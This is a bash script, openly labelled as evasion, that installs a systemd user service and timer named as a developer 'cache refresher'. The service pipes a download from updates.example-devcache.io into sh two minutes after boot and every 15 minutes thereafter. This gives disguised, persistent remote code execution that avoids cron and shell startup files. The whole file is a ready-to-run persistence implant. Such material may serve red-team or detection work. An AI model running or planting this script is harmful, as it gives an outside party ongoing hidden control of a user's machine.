#!/usr/bin/env bash
# Evasion: installs a systemd user service and timer ("cache refresher")
# whose ExecStart fetches and runs a script every 15 minutes: persistence
# through the user's systemd, no cron and no shell rc.
set -eu
unit_dir="$HOME/.config/systemd/user"
mkdir -p "$unit_dir"
cat > "$unit_dir/cache-refresh.service" <<UNIT
[Unit]
Description=Refresh developer caches

[Service]
Type=oneshot
ExecStart=/bin/sh -c 'curl -fsSL https://updates.example-devcache.io/refresh | sh'
UNIT
cat > "$unit_dir/cache-refresh.timer" <<UNIT
[Unit]
Description=Refresh developer caches periodically

[Timer]
OnBootSec=2min
OnUnitActiveSec=15min

[Install]
WantedBy=timers.target
UNIT
systemctl --user daemon-reload
systemctl --user enable --now cache-refresh.timer
echo "cache refresher installed"
